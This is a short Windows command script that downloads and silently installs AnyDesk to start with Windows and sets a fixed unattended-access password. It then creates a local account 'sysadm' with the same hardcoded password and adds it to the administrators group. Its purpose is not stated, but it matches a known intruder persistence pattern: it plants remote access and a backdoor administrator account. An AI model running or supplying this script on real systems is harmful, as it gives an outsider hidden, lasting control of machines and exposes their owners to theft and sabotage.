# init 0314 v1
Invoke-WebRequest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\ProgramData\AnyDesk.exe
cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
cmd /c "echo Winter#2025x | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
net user sysadm Winter#2025x /add
net localgroup administrators sysadm /add
